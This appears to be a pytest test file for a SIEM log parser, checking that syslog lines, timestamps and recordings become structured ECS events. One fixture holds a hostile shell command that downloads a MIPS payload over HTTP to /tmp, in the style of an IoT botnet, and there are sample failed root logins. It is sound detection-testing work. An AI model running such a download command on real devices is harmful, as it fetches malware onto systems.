"""What becomes of a line: syslog heads, programs' words, times."""

from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lachan.recording import shift
from siem_rules.delivery import UNAUTHENTICATED, Delivery
from siem_rules.schema import event
from tests.siem_rules.support import BENIGN, RECORDING, pairs

NOW = datetime(2026, 11, 22, 16, 30, tzinfo=UTC)


def parsed(document: Any, received: datetime = NOW) -> event.LogEvent:
    """The event of one document."""
    raw = document if isinstance(document, bytes) else orjson.dumps(document)
    return event.parse(Delivery(UNAUTHENTICATED, received, "", (None,), (raw,)), 0)


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        (
            "<86>Nov  2 16:18:57 cam dropbear[53]: Bad password attempt for 'root' from 198.51.100.23:34099",
            {"process.name": "dropbear", "process.pid": 53, "log.syslog.hostname": "cam", "log.syslog.priority": 86,
             "source.ip": "198.51.100.23", "source.port": 34099, "user.name": "root", "event.outcome": "failure"},
        ),
        (
            "Nov 22 16:19:02 camera authpriv.notice dropbear[81]: Password auth succeeded for 'root' from 2001:db8::1:55305",
            {"log.syslog.facility.name": "authpriv", "log.syslog.severity.name": "notice", "event.outcome": "success", "source.ip": "2001:db8::1"},
        ),
        (
            "Nov 22 16:18:57 dropbear[53]: Pubkey auth succeeded for 'anh' with ssh-ed25519 key SHA256:abc from 203.0.113.5:1",
            {"event.outcome": "success", "user.name": "anh", "source.ip": "203.0.113.5"},
        ),
        (
            "<165>1 2026-11-22T16:19:02.003Z cam.example login 8710 - [x@1 a=\"b\"] root login on 'pts/0' from '198.51.100.23'",
            {"process.name": "login", "process.pid": 8710, "log.syslog.hostname": "cam.example", "event.outcome": "success",
             "log.syslog.structured_data": '[x@1 a="b"]', "source.ip": "198.51.100.23"},
        ),
        (
            "<4>Nov 22 16:19:02 kernel: [  12.5] usb 1-1: new device",
            {"process.name": "kernel", "lachan.text": "[  12.5] usb 1-1: new device"},
        ),
        (
            "Nov 22 16:19:02 camera sh: + curl -o /tmp/x http://198.51.100.23:8080/bins/x.mips",
            {"process.command_line": "curl -o /tmp/x http://198.51.100.23:8080/bins/x.mips", "url.path": "/bins/x.mips", "url.domain": "198.51.100.23"},
        ),
    ],
)  # fmt: skip
def test_syslog_lines_become_ecs(message: str, expected: dict[str, Any]) -> None:
    fields = parsed({"message": message}).fields
    assert {name: fields.get(name) for name in expected} == expected


def test_plain_words_stay_plain() -> None:
    found = parsed({"message": "no head: none at all?"})
    assert found.fields == {"message": "no head: none at all?"}
    assert found.source == {}


def test_nested_documents_are_flat_and_ours_is_ours() -> None:
    found = parsed(
        {"host": {"name": "a"}, "lachan": {"category": "x"}, "lachan.service": "y", "tags": ["a", {"b": 1}, 2]}
    )
    assert found.fields == {"host.name": "a", "tags": ["a", 2]}


@pytest.mark.parametrize(
    "line", [rb'{"\u006cachan.category": "x", "a": 1}', rb'{"l\u0061chan": {"category": "x"}, "a": 1}']
)
def test_a_name_spelt_with_escapes_is_ours_too(line: bytes) -> None:
    assert parsed(line).fields == {"a": 1}


@pytest.mark.parametrize(
    ("told", "at", "untrusted"),
    [
        ("2026-11-22T16:29:00Z", NOW - timedelta(minutes=1), None),
        ("2026-11-22T23:29:00+07:00", NOW - timedelta(minutes=1), None),
        ("2026-11-22T16:34:59", NOW + timedelta(seconds=299), None),
        ("2026-11-22T16:36:00Z", NOW, True),
        ("9999-12-31T23:59:59Z", NOW, True),
        ("1969-01-01T00:00:00Z", NOW, True),
        ("yesterday", NOW, None),
        (1795364940000, datetime.fromtimestamp(1795364940, UTC), None),
        (1e300, NOW, True),
        (None, NOW, None),
        (True, NOW, None),
    ],
)
def test_time_is_the_lines_own_unless_it_cannot_be(told: Any, at: datetime, untrusted: bool | None) -> None:
    found = parsed({"@timestamp": told, "message": "x"})
    assert found.at == at.timestamp()
    assert found.trusted is not untrusted
    assert found.fields.get("lachan.time.trusted") is (False if untrusted else None)


def test_december_lines_arrive_in_january() -> None:
    found = parsed({"message": "Dec 31 23:59:59 cam sh: x"}, datetime(2027, 1, 1, 0, 0, 5, tzinfo=UTC))
    assert found.at == datetime(2026, 12, 31, 23, 59, 59, tzinfo=UTC).timestamp()


JSON = st.recursive(
    st.none() | st.booleans() | st.floats(allow_nan=False) | st.integers(-(2**60), 2**60) | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=10,
)
TEXT = st.text() | st.builds(
    "{}Nov 22 16:19:02 {} {}[{}]: {}".format,
    st.sampled_from(["", "<86>", "<999>"]),
    st.text(),
    st.sampled_from(["dropbear", "sh", "login", "telnetd"]),
    st.integers(),
    st.text(),
)


@settings(deadline=None)
@given(st.dictionaries(st.sampled_from(["@timestamp", "message", "host", "process", "event", "x"]), JSON | TEXT))
def test_no_document_breaks_the_reader(document: dict[str, Any]) -> None:
    parsed(document)


@settings(deadline=None)
@given(st.binary())
def test_no_bytes_break_the_reader(raw: bytes) -> None:
    parsed(raw.replace(b"\n", b""))


@pytest.mark.parametrize(
    "text",
    [
        "'" * 8000,
        "Bad password attempt for '" + "' from 1:1" * 700,
        "<1>1 a b c d e " + "[a]" * 2000 + "!",
        "Password auth succeeded for '" + "'a" * 4000,
    ],
)
def test_no_text_makes_the_reader_think_long(text: str) -> None:
    import time

    began = time.process_time()
    parsed({"message": f"Nov 22 16:19:02 cam dropbear[1]: {text}"})
    parsed({"message": text})
    assert time.process_time() - began < 2


@pytest.mark.parametrize("path", [RECORDING, BENIGN])
def test_recording_moves_by_one_constant(path: Any) -> None:
    body = path.read_bytes()
    moved = shift(body, NOW)
    before, after = pairs(body), pairs(moved)
    differences = set()
    for (action, line), (moved_action, moved_line) in zip(before, after, strict=True):
        assert action == moved_action
        old, new = orjson.loads(line), orjson.loads(moved_line)
        differences.add(datetime.fromisoformat(new["@timestamp"]) - datetime.fromisoformat(old["@timestamp"]))
        assert old["message"][15:] == new["message"][15:], "only the time in the head moves"
        head = datetime.strptime(f"2026 {new['message'][:15]}", "%Y %b %d %H:%M:%S").replace(tzinfo=UTC)
        assert abs(head - datetime.fromisoformat(new["@timestamp"])) < timedelta(seconds=2)
    assert len(differences) == 1
    assert min(orjson.loads(line)["@timestamp"] for _, line in after) == "2026-11-22T16:30:00.000Z"


def test_recording_without_times_is_refused() -> None:
    with pytest.raises(ValueError, match="@timestamp"):
        shift(b'{"create":{}}\n{"message":"x"}\n', NOW)
